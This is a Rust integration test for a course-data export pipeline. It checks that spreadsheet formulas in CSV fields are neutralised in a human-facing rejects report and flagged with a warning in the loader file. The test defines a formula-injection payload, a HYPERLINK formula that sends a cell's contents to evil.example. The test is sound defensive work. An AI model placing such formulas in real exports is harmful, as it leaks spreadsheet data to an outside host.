//! Export values that a spreadsheet would run as formulas: neutralised in `rejects.csv`,
//! which people open, and carried verbatim (with a warning) in the loader file, which Alma
//! reads.

use leganto_tests::support::RUN_DATE;
use serde_json::json;

use super::{World, EXPORT_NAME};
use crate::read_sample;

const FORMULA: &str = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Syllabus\")";

/// A CEM line in the sample's columns; `code`, `title` and `term` as given.
fn cem_line(code: &str, title: &str, term: &str) -> String {
    let quoted = |v: &str| format!("\"{}\"", v.replace('"', "\"\""));
    format!(
        "200001,{},APPROVED,{},88146,gs22,Primary,LW,ASUONLI,ENG 439,{term},2026,\
         2026-08-20 00:00:00.000000000,2026-12-11 00:00:00.000000000,0,,,\r\n",
        quoted(code),
        quoted(title)
    )
}

#[tokio::test]
async fn a_formula_title_loads_verbatim_with_a_warning_and_a_formula_cell_in_rejects_is_neutralised(
) {
    let world = World::start("formulas").await;
    let sample = read_sample("cem.csv");
    let header_end = sample.iter().position(|b| *b == b'\n').unwrap() + 1;
    let mut export = sample[..header_end].to_vec();
    // Loaded: its title is a formula. Rejected (an empty term): its code and title are.
    export.extend(cem_line("2026Fall-X-ENG439-88146", FORMULA, "7").into_bytes());
    export.extend(cem_line(FORMULA, FORMULA, "").into_bytes());
    world.put_export(EXPORT_NAME, &export);
    let mut state = world.plan(json!({"run_date": RUN_DATE})).await.unwrap();
    world.step("pull", &mut state, "pull").await;
    let transform = world.step("transform", &mut state, "transform").await;

    let rejects = String::from_utf8(world.s3_get("reports/2026/11/28/rejects.csv").await).unwrap();
    let mut reader = csv::Reader::from_reader(rejects.as_bytes());
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    assert_eq!(rows.len(), 1, "{rejects}");
    assert_eq!(&rows[0][0], "3");
    assert_eq!(&rows[0][1], format!("'{FORMULA}"), "{rejects}");
    assert_eq!(&rows[0][2], "term");
    assert!(
        rows.iter().flatten().all(|cell| !cell.starts_with('=')),
        "{rejects}"
    );

    let loader = String::from_utf8(
        world
            .s3_get(transform["loader_key"].as_str().unwrap())
            .await,
    )
    .unwrap();
    assert!(
        loader.contains(&format!("\t{FORMULA}\t")),
        "the loader file carries the title byte for byte: {loader}"
    );
    let warnings = transform["warnings"].to_string();
    assert!(
        warnings.contains(
            "line 2 2026Fall-X-ENG439-88146: title starts with '=' (a spreadsheet \
             would run it as a formula)"
        ),
        "{warnings}"
    );
}
